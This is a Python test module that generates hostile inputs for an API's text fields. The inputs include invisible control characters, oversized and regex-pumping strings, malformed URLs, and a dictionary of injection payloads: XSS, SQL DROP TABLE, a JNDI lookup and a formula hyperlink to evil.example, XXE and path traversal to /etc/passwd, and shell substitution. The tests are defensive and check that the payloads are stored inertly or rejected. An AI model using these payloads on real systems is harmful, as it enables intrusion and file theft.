"""Texts in every place that takes one: letters nobody sees, too many of them, and what other programs would run."""

import unicodedata
from collections.abc import Iterator

from tests.hostile.oracle import Case, Expected, nothing, problem, sound
from tests.hostile.sending import asking
from tests.hostile.shapes import Operation, Spot

UNSEEN = {
    "NUL": "a\0b",
    "escape": "\x1b[31mred",
    "carriage return": "a\r\nSet-Cookie: x",
    "backspace": "a\bb",
    "delete": "a\x7fb",
    "next line": "a\u0085b",
    "soft hyphen": "a\u00adb",
    "zero-width space": "a\u200bb",
    "zero-width joiner": "a\u200db",
    "left-to-right mark": "a\u200eb",
    "right-to-left override": "a\u202eb",
    "isolate": "a\u2066b",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "byte order mark": "\ufeffa",
    "tag": "a\U000e0041b",
    "private use": "a\ue000b",
    "no character": "a\uffffb",
}
ASIDE = ("input", "firstVersion", "added")
"""Steps that the paths of problems leave out."""
ELSEWHERE = {
    "scores.criterion": ("scores", "criterion"),
    "scores.reason": ("scores", "reason"),
    "marks.reason": ("marks", "A", "reason"),
    "recommendations.text": ("recommendations", "1", "text"),
    "rules.code": ("rules", "0", "id"),
    "constraints.code": ("constraints", "0", "id"),
}
"""Parts of lists that problems name in another way: by their criterion, by their number, as the record calls it."""
SHORTENED = {
    "reason", "recogniseEntry.input.decisionNumber", "revokeRecognition.input.decisionNumber", "amendEntry.input.text",
    "revokeMerit.input.decisionNumber", "revokeAward.input.decisionNumber",
    "announceInspection.input.schedule", "createScoreSheet.input.name", "requestUpload.input.name",
}  # fmt: skip
"""Texts beside a form: too long a one is TOO_LARGE there."""


CODES = {
    "after": "BAD_CURSOR",
    "period": "BAD_PERIOD",
    "code": "NOT_FOUND",
    "names": "BAD_INPUT",
    "indicator": "NOT_FOUND",
}
"""What a query says of an argument that it cannot make anything of."""
LISTS = ("Indicator.", "ReportedIndicator.", "NumbersLine.", "Numbers.reported")
"""Types whose `codes` only pick some of a list: what is none of it picks nothing."""


def spots(operations: list[Operation]) -> Iterator[Spot]:
    """Yield the places for text in what is done, but for the ids of requests."""
    for operation in (o for o in operations if o.mutates):
        yield from (s for s in operation.spots() if s.kind == "String" and s.path[-1] != "requestId")


def _at(spot: Spot, text: str) -> tuple[str, ...]:
    steps = tuple(str(step) for step in spot.path if step not in ASIDE)
    if steps[0] == "marks" and steps[-1] == "criterion":
        return ("marks", text)
    named = ELSEWHERE.get(".".join(step for step in steps if not step.isdigit()))
    return named or (*steps, *(["0"] if spot.listed else []))


def _with(spot: Spot, label: str, text: str, code: str) -> Case:
    request = asking(spot.operation.text, spot.put([text] if spot.listed else text), by=spot.operation.by)
    code = "BAD_PERIOD" if spot.path[-1] == "period" else code
    return Case(name=f"{spot.name}: {label}", request=request, expected=problem(code, *_at(spot, text)))


def invisible(operations: list[Operation]) -> Iterator[Case]:
    """Yield letters that cannot be seen, which no record holds: some in each place, all of them together."""
    for number, spot in enumerate(spots(operations)):
        for label, text in list(UNSEEN.items())[number % 4 :: 4]:
            yield _with(spot, label, text, "BAD_INPUT")


def long(operations: list[Operation]) -> Iterator[Case]:
    """Yield texts that are longer than any field takes."""
    for spot in spots(operations):
        short = spot.name in SHORTENED or spot.path == ("input", "reason")
        for length in (4_001, 12_000):
            if spot.name.endswith("scores.criterion"):
                continue
            yield _with(spot, f"{length} letters", "x" * length, "TOO_LARGE" if short else "BAD_INPUT")


def request_ids(operations: list[Operation]) -> Iterator[Case]:
    """Yield ids of requests that are none."""
    texts = {
        "empty": "",
        "of seven letters": "a" * 7,
        "of 101 letters": "a" * 101,
        "with a blank": "request 12",
        "with a line break": "request12\n",
        "with marks": "yêu-cầu-1",
        "with a hash": "request#12",
        "with a NUL": "request\x0012",
        "that begins with a dot": ".request12",
        "pumped": "a" * 30_000 + "!",
    }
    for operation in (o for o in operations if o.mutates):
        for label, text in texts.items():
            variables = {"input": operation.variables["input"] | {"requestId": text}}
            request = asking(operation.text, variables, by=operation.by)
            expected = problem("BAD_INPUT", "requestId")
            yield Case(name=f"{operation.name} with a requestId {label}", request=request, expected=expected, calls=2)


HARMLESS = {
    "a formula": '=HYPERLINK("https://evil.example","x")',
    "a command in a formula": "=cmd|'/C calc'!A0",
    "a sum": "@SUM(1+1)",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "a tab in it": "x\t=1+1",
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "an entity": "&lt;b&gt; &#0; &amp;",
    "a data address": "data:text/html;base64,PHNjcmlwdD4=",
    "a script's address": "javascript:alert(1)",
    "a line break": "dòng một\ndòng hai",
    "SQL": "'; DROP TABLE entries; --",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "a lookup": "${jndi:ldap://evil.example/x}",
    "a format": "%s%n {0.__class__} %(x)s",
    "an operator": '{"$gt": ""}',
    "a placeholder": ":v0 #n0 attribute_not_exists(pk)",
    "a path": "../../../../etc/passwd",
    "a shell": "$(id) `id` | id; id",
    "XML": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "emoji": "👩‍🌾".replace("\u200d", ""),
    "look-alikes": "Ðộng Đình аdmin",
    "300 letters": "ế" * 300,
    "marks upon marks": "a" + "\u0301" * 200,
    "null as a word": "null",
    "a key of prototypes": "__proto__",
}


def kept(operations: list[Operation]) -> Iterator[Case]:
    """Yield texts that other programs would run: here they are text, kept letter by letter."""
    (create,) = (o for o in operations if o.name == "createEntry")
    for number, (label, text) in enumerate(HARMLESS.items()):
        document = create.text.replace("{ __typename }", "{ title content }")
        given = create.variables["input"] | {"title": text, "content": text, "requestId": f"kept-as-text-{number}"}
        same = {"title": unicodedata.normalize("NFC", text), "content": unicodedata.normalize("NFC", text)}
        yield Case(
            name=f"title is {label}",
            request=asking(document, {"input": given}, by=create.by),
            expected=sound({"createEntry": {"entry": same, "problems": []}}),
            writes=True,
        )


ADDRESSES = (
    "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "ftp://example.org/x", "//example.org", "x",
    "http://a b", "https://a<b", "https://a'b", 'https://a"b', "https://", " ", "http:/example.org", "HTTP//x",
    "https://" + "a" * 500,
)  # fmt: skip


def addresses(operations: list[Operation]) -> Iterator[Case]:
    """Yield addresses of evidence that a browser must never be sent to."""
    for operation in (o for o in operations if o.mutates):
        for spot in (s for s in operation.spots() if s.path[-1] == "url"):
            for address in ADDRESSES:
                steps = tuple(str(step) for step in spot.path[1:])
                if not address.strip():
                    # No address at all: then it is neither a link nor a file.
                    steps = steps[:-1]
                request = asking(operation.text, spot.put(address), by=operation.by)
                yield Case(name=f"{spot.name}: {address[:30]}", request=request, expected=problem("BAD_INPUT", *steps))


def injected(operations: list[Operation]) -> Iterator[Case]:
    """Yield the same texts wherever a query takes one: nothing of them is evaluated, and most are simply not found."""
    for operation in (o for o in operations if not o.mutates and not o.name.startswith(LISTS)):
        for spot in (s for s in operation.spots() if s.kind == "String" and len(s.path) == 1):
            for label, text in HARMLESS.items():
                name = str(spot.path[-1])
                request = asking(operation.text, spot.put([text] if spot.listed else text), by=operation.by)
                expected = _unanswered(operation, CODES.get(name, ""))
                if name in {"name", "title"}:
                    few = label in {"marks upon marks", "emoji"}
                    expected = nothing(operation.answers, code="BAD_INPUT") if few else _found(operation)
                yield Case(name=f"{spot.name}: {label}", request=request, expected=expected)


def patterns(operations: list[Operation]) -> Iterator[Case]:
    """Yield texts made to keep a regular expression busy."""
    pumps = {
        "digits": "1" * 30_000 + "!",
        "blanks": " " * 30_000 + "!",
        "dashes": "-" * 30_000 + "!",
        "dots": "2026." * 6_000 + "!",
        "words": "a " * 15_000 + "!",
        "marks": "a" + "\u0301" * 14_000 + "!",
        "đ": "đ" * 14_000 + "!",
        "line breaks": "\n" * 30_000 + "!",
    }
    for operation in (o for o in operations if not o.mutates and not o.name.startswith(LISTS)):
        for spot in (s for s in operation.spots() if s.kind in {"String", "ID"} and len(s.path) == 1):
            for label, pump in pumps.items():
                name = str(spot.path[-1])
                request = asking(operation.text, spot.put([pump] if spot.listed else pump), by=operation.by)
                yield Case(
                    name=f"{spot.name} pumped with {label}",
                    request=request,
                    expected=_pumped(operation, name, label, CODES.get(name, "NOT_FOUND")),
                )


def _pumped(operation: Operation, name: str, label: str, code: str) -> Expected:
    if name in {"name", "title"}:
        letters = label in {"digits", "dots", "words", "đ"}
        return _found(operation) if letters else nothing(operation.answers, code="BAD_INPUT")
    return _unanswered(operation, code)


def _found(operation: Operation) -> Expected:
    kinds = {"units": "UnitConnection", "entriesByTitle": "EntryConnection"}
    return sound({operation.answers: {"__typename": kinds[operation.name]}})


def _unanswered(operation: Operation, code: str) -> Expected:
    outer, _, inner = operation.name.rpartition(".")
    if operation.name == "Numbers.indicators":
        # Which numbers to show: there are none by such names.
        return sound({operation.answers: {inner: []}})
    return Expected(status=200, codes=(code,), data={operation.answers: {inner: None} if outer else None})
